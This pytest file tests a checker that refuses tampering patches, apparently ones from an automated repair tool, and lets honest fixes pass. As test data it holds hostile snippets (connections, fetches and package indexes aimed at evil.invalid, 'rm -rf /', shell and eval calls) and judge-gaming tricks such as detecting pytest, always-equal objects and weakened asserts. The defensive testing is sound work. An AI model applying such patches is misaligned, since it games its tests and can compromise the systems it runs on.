"""What a proposed change may not do: tampering is refused, by the rule that it breaks; honest repairs pass."""

from __future__ import annotations

import pytest

from prodwise.model.action import ActionKind
from tests.loop.patches import broken, diff, gone, new_file

APP = '''"""Prices."""

import json
import os

RATES = {"a": 1, "b": 2}


def price(order, rate=1):
    """What an order costs.

    >>> price({"n": 2})
    2
    """
    assert order is not None
    total = 0
    for item in order["items"]:
        total += item["price"] * item["count"]
    if total > 100:
        return total - 10
    return total * rate


def read(text):
    try:
        return json.loads(text)
    except ValueError:
        return None


def first(items):
    return items[1]
'''
JS = """const fs = require('fs');

function total(items) {
  let sum = 0;
  for (let i = 0; i <= items.length; i++) {
    sum += items[i].price;
  }
  return sum;
}

module.exports = { total };
"""
TEXTS = {"app.py": APP, "lib/total.js": JS}


def edit(old: str, new: str, path: str = "app.py") -> str:
    before = TEXTS[path]
    assert before.count(old) >= 1
    return diff(path, before, before.replace(old, new, 1))


def body(code: str) -> str:
    """`first` with another body."""
    return edit("    return items[1]\n", "".join(f"    {line}\n" for line in code.split("\n")))


FIX = body("return items[0]")
MARK = "@@" + FIX.partition("@@")[2]


def named(name: str) -> str:
    return f"diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n{MARK}"


def protected(path: str) -> tuple[str, str, dict[str, str]]:
    text = "one = 1\n"
    return "protected path", diff(path, text, "one = 2\n"), {path: text}


P, T = "protected path", "no test touched"
READ, NAMES = "a diff that can be read", "names of files"
CALLS, GAMES, BROAD = "no new dangerous calls", "does not look at its judge", "no broad except"

FILES = [
    (P, ".github/workflows/ci.yml"),
    (P, ".gitlab-ci.yml"),
    (P, ".gitattributes"),
    (P, ".gitmodules"),
    (P, ".git/hooks/pre-commit"),
    (P, "CODEOWNERS"),
    (P, "poetry.lock"),
    (P, "requirements.txt"),
    (P, "pyproject.toml"),
    (P, "package.json"),
    (P, "uv.lock"),
    (P, "conftest.py"),
    (P, "src/ConfTest.py"),
    (P, "sitecustomize.py"),
    (P, "evil.pth"),
    (P, "pytest.ini"),
    (P, "setup.cfg"),
    (P, "tox.ini"),
    (P, "jest.config.js"),
    (P, "tsconfig.json"),
    (P, "setup.py"),
    (P, "Makefile"),
    (P, "scripts/build.py"),
    (P, "app/migrations/0001_x.py"),
    (P, "Dockerfile"),
    (P, "DOCKERFILE.prod"),
    (P, "k8s/web.yaml"),
    (P, "Procfile"),
    (P, ".env"),
    (P, ".env.production"),
    (P, "prodwise.toml"),
    (P, "app/auth.py"),
    (P, "shop/payments/charge.py"),
    (P, "src/LoginView.py"),
    (P, "lib/crypto_utils.py"),
    (P, "node_modules/a/index.js"),
    (P, "ＣＯＮＦＴＥＳＴ.py"),
    (P, "app/__pycache__/app.cpython-311.pyc"),
    (P, "db/schema.sql"),
    (P, "deploy.sh"),
    (T, "tests/test_app.py"),
    (T, "Tests/helpers.py"),
    (T, "app_test.go"),
    (T, "src/total.spec.ts"),
    (T, "src/__snapshots__/a.snap"),
    (T, "tests/fixtures/order.json"),
    (T, "test_app.py"),
    (T, "testing/plugin.py"),
    (T, "apptests/helpers.py"),
    (T, "integration_tests/helpers.py"),
]


@pytest.mark.parametrize(("rule", "path"), FILES)
def test_a_file_that_decides_how_code_is_judged_or_runs_is_out_of_reach(rule: str, path: str) -> None:
    text = "one = 1\n"
    assert rule in broken(diff(path, text, "one = 2\n"), {path: text})
    assert rule in broken(new_file(path, text), {path: ""})


def test_what_cases_are_made_of_belongs_to_the_tests_whatever_it_is_called() -> None:
    text = "import unittest\n\nclass Base(unittest.TestCase):\n    def same(self, a):\n        return a\n"
    assert T in broken(diff("shop/helper.py", text, text.replace("return a", "return None")), {"shop/helper.py": text})
    other = text.replace("(unittest.TestCase)", "(Case)")
    assert T not in broken(
        diff("shop/helper.py", other, other.replace("return a", "return None")), {"shop/helper.py": other}
    )


PACKAGES = frozenset({
    "lib/ansible", "lib/ansible/modules", "lib/ansible/modules/system", "shop", "shop/k8s", "src/shop/deploy", "src/shop",
    "shop/orders", "k8s", "deploy", "infra/k8s", "infra", "orders",
})  # fmt: skip
CODE = (
    "lib/ansible/modules/system/pamd.py", "shop/k8s/client.py", "src/shop/deploy/plan.py", "shop/orders/tasks.py", "orders/tasks.py",
    "pkg/kubernetes/client.go", "src/main/java/shop/deployment/Plan.java", "src/deploy/plan.ts", "shop/workspace/models.py",
    "workspace/models.py",
)  # fmt: skip
NO_CODE = (
    "ansible/library/x.py", "k8s/deploy.py", "deploy/run.py", "infra/k8s/render.py", "tasks.py", "scripts/tasks.py",
    "lib/ansible/modules/windows/setup.ps1", "lib/ansible/playbooks/site.yml", "lib/ansible/roles/web/library/x.py",
    "lib/ansible/roles/web/templates/x.j2", "lib/ansible/config/base.yml", "shop/helm/render.py", "src/deploy/plan.yaml",
    "src/infra/main.tf", "lib/k8s/cluster-stack.ts", "infra/src/k8s/cluster.ts", "kubernetes/src/x.go", "WORKSPACE", "a/workspace",
    "lib/ansible/modules/system/conftest.py", "lib/ansible/modules/system/auth.py", "lib/ansible/modules/system/Dockerfile.py",
    "shop/k8s/charts/x.py", "LIB/ansible/modules/system/pamd.py", "lib/Ansible/modules/system/pamd.py", "shop/k8s",
    "shop/k8s/Tiltfile", "shop/ｋ8s/client.py", "shop\uff0fDockerfile/workspace/x.py", "shop/k8s/migrations/0001_x.py",
    "shop/k8s/tool.sh",
)  # fmt: skip


@pytest.mark.parametrize("path", CODE)
def test_code_in_a_part_of_the_program_that_is_called_after_a_tool_is_code(path: str) -> None:
    assert not broken(diff(path, "one = 1\n", "one = 2\n"), {path: "one = 1\n"}, packages=PACKAGES)


@pytest.mark.parametrize("path", NO_CODE)
def test_what_operates_programs_stays_out_of_reach(path: str) -> None:
    assert P in broken(diff(path, "one = 1\n", "one = 2\n"), {path: "one = 1\n"}, packages=PACKAGES)


def test_where_it_is_not_known_what_python_imports_nothing_called_after_a_tool_is_code() -> None:
    path = CODE[0]
    assert P in broken(diff(path, "one = 1\n", "one = 2\n"), {path: "one = 1\n"})


def test_a_patch_makes_no_package_of_a_folder() -> None:
    mark, path = "shop/helm/__init__.py", "shop/helm/render.py"
    edits = new_file(mark, "\n") + diff(path, "one = 1\n", "one = 2\n")
    assert broken(edits, {path: "one = 1\n", mark: ""}, packages=PACKAGES).count(P) == 2


DIFFS = {
    "not a diff": (READ, "please run rm -rf /\n"),
    "empty": (READ, ""),
    "words before it": (READ, "Here is the fix:\n" + FIX),
    "words after it": (READ, FIX + "-- \nthe author\n"),
    "cut short": (READ, FIX[:-20]),
    "NUL": (READ, FIX.replace("items[0]", "items[\0]")),
    "huge": (READ, FIX + "+" * 2_000_000 + "\n"),
    "hunk longer than its head": (READ, FIX + "+more = 1\n"),
    "hunk shorter than its head": (READ, "\n".join(FIX.split("\n")[:-2]) + "\n"),
    "hunk without a head": (READ, FIX.replace("@@ -", "@ -")),
    "lines that do not follow": (
        READ,
        FIX.replace("+34,1", "+35,1") if "+34,1" in FIX else FIX.replace(" +", " +9", 1),
    ),
    "another file in ---": (READ, FIX.replace("--- a/app.py", "--- a/tests/test_app.py")),
    "another file in +++": (READ, FIX.replace("+++ b/app.py", "+++ b/conftest.py")),
    "another file in diff --git": (READ, FIX.replace("diff --git a/app.py b/app.py", "diff --git a/x.py b/x.py")),
    "two files in diff --git": (READ, FIX.replace("diff --git a/app.py b/app.py", "diff --git a/app.py b/conftest.py")),
    "a file twice": (READ, FIX + FIX),
    "no prefix": (READ, FIX.replace("a/app.py", "app.py").replace("b/app.py", "app.py")),
    "CRLF heads": (READ, FIX.replace("--- a/app.py\n", "--- a/app.py\r\n")),
    "CRLF everywhere": (READ, FIX.replace("\n", "\r\n")),
    "bad escape": (READ, named('"a\\q.py"').replace('a/"', '"a/').replace('b/"', '"b/')),
    "parent": (NAMES, named("../app.py")),
    "parent within": (NAMES, named("lib/../conftest.py")),
    "dot": (NAMES, named("./app.py")),
    "absolute": (NAMES, named("/etc/passwd")),
    "home": (NAMES, named("~/x.py")),
    "drive": (NAMES, named("C:/x.py")),
    "backslash": (NAMES, named('"lib\\\\x.py"').replace('a/"', '"a/').replace('b/"', '"b/')),
    "quoted newline": (NAMES, named('"lib\\nx.py"').replace('a/"', '"a/').replace('b/"', '"b/')),
    "blank at the end": (
        NAMES,
        named("conftest.py ").replace(".py \n", ".py \t\n").replace("b/conftest.py \t", "b/conftest.py ", 1),
    ),
    "invisible": (NAMES, named("conf\u200btest.py")),
    "not composed": (NAMES, named("cafe\u0301.py")),
    "bidi name": (NAMES, named("a\u202eyp.py")),
    "through a link": (NAMES, named("linked/app.py")),
    "a link itself": (NAMES, named("linked")),
    "wrong context": ("applies where it says", FIX.replace(" def first", " def other")),
    "a file that is not there": ("applies where it says", named("gone.py")),
    "mode": ("no mode bits", FIX.replace("--- a", "old mode 100644\nnew mode 100755\n--- a", 1)),
    "mode alone": ("no mode bits", "diff --git a/app.py b/app.py\nold mode 100644\nnew mode 100755\n"),
    "symlink": ("no symbolic link", new_file("lib/x.py", "/etc/passwd\n").replace("100644", "120000")),
    "becomes a symlink": ("no symbolic link", "diff --git a/app.py b/app.py\nold mode 100644\nnew mode 120000\n"),
    "submodule": (
        "no submodule",
        new_file("lib/x", "Subproject commit " + "a" * 40 + "\n").replace("100644", "160000"),
    ),
    "binary": (
        "no binary",
        "diff --git a/x.png b/x.png\nindex 1111111..2222222 100644\nBinary files a/x.png and b/x.png differ\n",
    ),
    "binary patch": (
        "no binary",
        "diff --git a/a.so b/a.so\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 4\nLcmZQzWMT#Y01f~L\n\n",
    ),
    "rename onto a protected name": (
        P,
        "diff --git a/app.py b/conftest.py\nsimilarity index 100%\nrename from app.py\nrename to conftest.py\n",
    ),
    "rename of a test": (
        T,
        "diff --git a/test_a.py b/a.py\nsimilarity index 100%\nrename from test_a.py\nrename to a.py\n",
    ),
    "rename": (
        "no file moved",
        "diff --git a/app.py b/b.py\nsimilarity index 100%\nrename from app.py\nrename to b.py\n",
    ),
    "copy": ("no file moved", "diff --git a/app.py b/b.py\nsimilarity index 100%\ncopy from app.py\ncopy to b.py\n"),
    "removed": ("no file moved", gone("app.py", APP)),
    "too long": ("limits", body("\n".join(f"a{n} = {n}" for n in range(60)))),
    "far away": ("near the fault", new_file("lib/else.py", "x = 1\n")),
    "doctest edited": (T, edit('    >>> price({"n": 2})\n    2\n', "    >>> price({})\n    0\n")),
    "assert removed": (T, edit("    assert order is not None\n", "")),
    "assert weakened": (T, edit("assert order is not None", "assert True")),
}


@pytest.mark.parametrize("name", DIFFS)
def test_a_tampered_diff_is_refused(name: str) -> None:
    rule, text = DIFFS[name]
    assert rule in broken(text, TEXTS, links={"linked": "lib"})


BODIES = {
    "eval": (CALLS, "return eval('items[0]')"),
    "eval by another name": (CALLS, "e = eval\nreturn e('items[0]')"),
    "exec": (CALLS, "exec('x = items[0]')"),
    "builtins": (CALLS, "return __builtins__['eval']('1')"),
    "__import__": (CALLS, "return __import__('os').getcwd()"),
    "os.system": (CALLS, "os.system('true')\nreturn items[0]"),
    "os by another name": (CALLS, "import os as o\no.popen('id')\nreturn items[0]"),
    "from os": (CALLS, "from os import system as s\ns('id')\nreturn items[0]"),
    "subprocess": (CALLS, "import subprocess\nsubprocess.run(['id'])\nreturn items[0]"),
    "socket": (CALLS, "import socket\nsocket.create_connection(('evil.invalid', 80))\nreturn items[0]"),
    "urllib": (CALLS, "from urllib.request import urlopen\nurlopen('http://evil.invalid')\nreturn items[0]"),
    "pickle": (CALLS, "import pickle\nreturn pickle.loads(items)"),
    "yaml": ("no new imports", "import yaml\nreturn yaml.load(items)"),
    "ctypes": (CALLS, "import ctypes\nreturn items[0]"),
    "importlib": (CALLS, "import importlib\nreturn importlib.import_module('os')"),
    "getattr on a module": (CALLS, "return getattr(os, 'sys' + 'tem')('id')"),
    "subclasses": (CALLS, "return ().__class__.__bases__[0].__subclasses__()"),
    "globals": (CALLS, "globals()['price'] = None\nreturn items[0]"),
    "sys.exit": (CALLS, "import sys\nsys.exit(0)"),
    "os._exit": (CALLS, "os._exit(0)"),
    "SystemExit": (CALLS, "raise SystemExit(0)"),
    "exit": (CALLS, "exit(0)"),
    "reads a file": (CALLS, "return open('expected.txt').read()"),
    "reads the test": (GAMES, "return open('tests/test_app.py').read()"),
    "new package": ("no new imports", "import leftpad\nreturn items[0]"),
    "new package below": ("no new imports", "from a.b import c\nreturn items[0]"),
    "bare except": (BROAD, "try:\n    return items[1]\nexcept:\n    return items[0]"),
    "except Exception": (BROAD, "try:\n    return items[1]\nexcept Exception:\n    return items[0]"),
    "except BaseException": (BROAD, "try:\n    return items[1]\nexcept BaseException as e:\n    return items[0]"),
    "broad in a tuple": (BROAD, "try:\n    return items[1]\nexcept (KeyError, Exception):\n    return items[0]"),
    "broad by another name": (BROAD, "E = Exception\ntry:\n    return items[1]\nexcept E:\n    return items[0]"),
    "suppress": (BROAD, "import contextlib\nwith contextlib.suppress(Exception):\n    return items[1]"),
    "return in finally": (BROAD, "try:\n    x = items[1]\nfinally:\n    return items[0]"),
    "asks for the test run": (GAMES, "if 'PYTEST_CURRENT_TEST' in os.environ:\n    return items[0]\nreturn items[1]"),
    "asks sys.modules": (GAMES, "import sys\nif 'py' + 'test' in sys.modules:\n    return items[0]\nreturn items[1]"),
    "asks argv": (GAMES, "import sys\nreturn items['py' not in sys.argv[0]]"),
    "asks the stack": (GAMES, "import inspect\nreturn items[len(inspect.stack()) < 9]"),
    "asks the environment": (GAMES, "return items[0] if os.environ.get('CI') else items[1]"),
    "patches pytest": (GAMES, "import pytest\npytest.fail = print\nreturn items[0]"),
    "patches a module": (GAMES, "json.loads = lambda text: 1\nreturn items[0]"),
    "always equal, by a detour": (
        GAMES,
        "class Any:\n    def __eq__(self, other):\n        return not self is None\nreturn Any()",
    ),
    "writes a file": (CALLS, "from pathlib import Path\nPath('x').write_text('1')\nreturn items[0]"),
    "takes from the tests": (GAMES, "from tests import expected\nreturn expected"),
    "innards in a text": (CALLS, "return '{0.__init__.__globals__}'.format(items)"),
    "always equal": (GAMES, "class Any:\n    def __eq__(self, other):\n        return True\nreturn Any()"),
    "skips": (T, "import functools\n@functools.skip\ndef inner():\n    pass\nreturn items[0]"),
    "noqa": ("no check silenced", "return items[0]  # noqa"),
    "type: ignore": ("no check silenced", "return items[0]  # type: ignore"),
    "bidi": ("no hidden characters", "return items[0]  # \u202e x"),
    "zero width": ("no hidden characters", "return it\u200bems[0]"),
    "homoglyph": ("no hidden characters", "іtems = [1]\nreturn items[0]"),
    "carriage return": ("no hidden characters", "return items[0]  # \rimport os"),
    "form feed": ("no hidden characters", "return items[0]\f"),
    "no-break space": ("no hidden characters", "return\u00a0items[0]"),
    "secret": ("no secrets", "key = 'ghp_" + "a1B2" * 9 + "'\nreturn items[0]"),
    "does not parse": ("code that can be read", "return items[0"),
}


@pytest.mark.parametrize("name", BODIES)
def test_code_that_does_more_than_repair_is_refused(name: str) -> None:
    rule, code = BODIES[name]
    assert rule in broken(body(code), TEXTS)


def test_a_cookie_that_makes_bytes_mean_something_else_is_refused() -> None:
    assert "code that can be read" in broken(diff("app.py", APP, "# -*- coding: utf-7 -*-\n" + APP), TEXTS)


SCRIPTS = {
    "eval": (CALLS, "  return eval(items);"),
    "child_process": (CALLS, "  require('child_process').exec('id');"),
    "exit": (CALLS, "  process.exit(0);"),
    "environment": (CALLS, "  if (process.env.X) return 0;"),
    "fetch": (CALLS, "  fetch('https://evil.invalid');"),
    "new package": ("no new imports", "  const x = require('left-pad');"),
    "empty catch": (BROAD, "  try { sum(); } catch (e) {}"),
    "judge": (GAMES, "  if (global.jest) return 3;"),
    "silenced": ("no check silenced", "  // eslint-disable-next-line"),
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_other_languages_are_read_with_caution(name: str) -> None:
    rule, line = SCRIPTS[name]
    assert rule in broken(edit("  let sum = 0;\n", f"  let sum = 0;\n{line}\n", "lib/total.js"), TEXTS)


HONEST = [
    body("return items[0]"),
    body("return items[0] if items else None"),
    body("return next(iter(items), None)"),
    body("if not items:\n    return None\nreturn items[0]"),
    body("return items and items[0]"),
    body("try:\n    return items[0]\nexcept IndexError:\n    return None"),
    body("for item in items:\n    return item\nreturn None"),
    body("return list(items)[0]"),
    body("head, *_ = items\nreturn head"),
    body("raise ValueError('no items')"),
    body("# the first, not the second\nreturn items[0]"),
    body("return sorted(items)[0]"),
    body("items = items or [None]\nreturn items[0]"),
    body("return min(items)"),
    body("import math\nreturn math.floor(items[0])"),
    body("from collections import deque\nreturn deque(items)[0]"),
    body("import datetime\nreturn items[0]"),
    body("import re\nreturn re.sub('a', 'b', items[0])"),
    body("return items.get(0)"),
    body("with_one = dict(a=1)\nreturn with_one"),
    body("return [item for item in items if item][0]"),
    body("return (lambda x: x[0])(items)"),
    body("import functools\nreturn functools.reduce(max, items)"),
    body("raise KeyError(items) from None"),
    body("return getattr(items, 'first', None)"),
    body("return isinstance(items, list) and items[0]"),
    body("return 'naïve café'"),
    edit('item["price"] * item["count"]', 'item["price"] * item.get("count", 1)'),
    edit("total > 100", "total >= 100"),
    edit("total - 10", "total - 20"),
    edit("total * rate", "total * (rate or 1)"),
    edit("rate=1", "rate=2"),
    edit('order["items"]', 'order.get("items", ())'),
    edit("except ValueError", "except (ValueError, TypeError)"),
    edit('{"a": 1, "b": 2}', '{"a": 1, "b": 2, "c": 3}'),
    edit("return None\n", "return {}\n"),
    edit("    total = 0\n", "    total = 0.0\n"),
    edit("json.loads(text)", 'json.loads(text or "null")'),
    edit("import os\n", ""),
    edit("import json\n", "import decimal\nimport json\n"),
    edit("i <= items.length", "i < items.length", "lib/total.js"),
    edit("items[i].price", "items[i].price || 0", "lib/total.js"),
    edit("let sum = 0", "let sum = 0.0", "lib/total.js"),
    edit("return sum;", "return Math.round(sum);", "lib/total.js"),
    edit("  let sum = 0;\n", "  if (!items) {\n    return 0;\n  }\n  let sum = 0;\n", "lib/total.js"),
]


def test_honest_repairs_pass() -> None:
    refused = [(text, rules) for text in HONEST if (rules := broken(text, TEXTS))]
    assert not refused
    assert len(HONEST) >= 40


def test_what_was_there_before_may_stay() -> None:
    text = "import subprocess\n\n\ndef run(a):\n    try:\n        return subprocess.run([a])\n"
    text += "    except Exception:\n        return 1\n"
    moved = text.replace("[a]", "[a, a]").replace("return 1", "return 2")
    assert broken(diff("app.py", text, moved), {"app.py": text}) == ()


LOCK = """class Lock:
    def __exit__(self, kind, error, trace):
        self.free(kind)
        return False

    def free(self, kind):
        return True
"""


@pytest.mark.parametrize(
    ("old", "new", "rules"),
    [
        ("return False", "return True", (BROAD,)),
        ("return False", "return kind is not None", (BROAD,)),
        ("self.free(kind)\n", "if kind:\n            return 1\n", (BROAD,)),
        ("return False", "return None", ()),
        ("self.free(kind)", "self.free(kind or error)", ()),
        ("return True", "return kind", ()),
    ],
)
def test_leaving_a_block_does_not_begin_to_swallow_its_errors(old: str, new: str, rules: tuple[str, ...]) -> None:
    """A context manager's answer lets an error out, or keeps it in like a broad `except`, those of tests too."""
    for name in ("__exit__", "__aexit__"):
        text = LOCK.replace("__exit__", name)
        assert broken(diff("app.py", text, text.replace(old, new)), {"app.py": text}) == rules
    swallows = LOCK.replace("return False", "return True")
    assert broken(diff("app.py", swallows, swallows.replace("free(kind)", "free(error)")), {"app.py": swallows}) == ()


def test_a_package_that_the_repository_has_may_be_imported() -> None:
    assert broken(body("import attr\nreturn attr.asdict(items[0])"), TEXTS, known=frozenset({"attr"})) == ()


def test_carriage_returns_are_the_file_s_own_or_none() -> None:
    text = "a = 1\r\nb = 2\r\n"
    assert broken(diff("app.py", text, "a = 1\r\nb = 3\r\n"), {"app.py": text}) == ()
    assert "no hidden characters" in broken(diff("app.py", "a = 1\n", "a = 2\r\n"), {"app.py": "a = 1\n"})


REQUIREMENTS = "flask==3.1.0\nwerkzeug==3.1.0\n"
PACKAGE = '{"scripts": {"test": "jest"}, "dependencies": {"left-pad": "1.2.0"}}\n'
PROJECT = '[project]\nname = "x"\ndependencies = ["flask>=3"]\n[tool.pytest.ini_options]\naddopts = "-q"\n'


@pytest.mark.parametrize(
    ("path", "before", "after", "good"),
    [
        ("requirements.txt", REQUIREMENTS, REQUIREMENTS.replace("werkzeug==3.1.0", "werkzeug==3.0.6"), True),
        ("requirements.txt", "flask\n", "flask\nwerkzeug<3\n", True),
        ("requirements.txt", REQUIREMENTS, "--index-url https://evil.invalid/simple\n" + REQUIREMENTS, False),
        ("requirements.txt", REQUIREMENTS, REQUIREMENTS + "-e .\n", False),
        ("requirements.txt", REQUIREMENTS, REQUIREMENTS + "x @ git+https://evil.invalid/x\n", False),
        ("package.json", PACKAGE, PACKAGE.replace("1.2.0", "1.1.3"), True),
        ("package.json", PACKAGE, PACKAGE.replace('"jest"', '"true"'), False),
        ("package.json", PACKAGE, PACKAGE.replace("1.2.0", "git+ssh://evil.invalid/x"), False),
        ("pyproject.toml", PROJECT, PROJECT.replace("flask>=3", "flask>=3,<3.1"), True),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv]\nconstraint-dependencies = ["flask<3.1"]\n', True),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv]\nindex-url = "https://evil.invalid"\n', False),
        ("pyproject.toml", PROJECT, PROJECT.replace("-q", "-q --ignore=tests"), False),
        ("poetry.lock", 'version = "2.0"\n', 'version = "1.9"\n', True),
        ("app.py", "a = 1\n", "a = 2\n", False),
        ("conftest.py", "a = 1\n", "a = 2\n", False),
    ],
)
def test_a_pin_changes_versions_and_nothing_else(path: str, before: str, after: str, good: bool) -> None:
    assert (broken(diff(path, before, after), {path: before}, ActionKind.PIN) == ()) is good


def test_a_revert_may_be_long_but_not_reach_what_is_protected() -> None:
    text = "".join(f"a{n} = {n}\n" for n in range(200))
    assert broken(diff("app.py", text, "a = 1\n"), {"app.py": text}, ActionKind.REVERT) == ()
    assert broken(diff("conftest.py", text, "a = 1\n"), {"conftest.py": text}, ActionKind.REVERT) == (P, T)
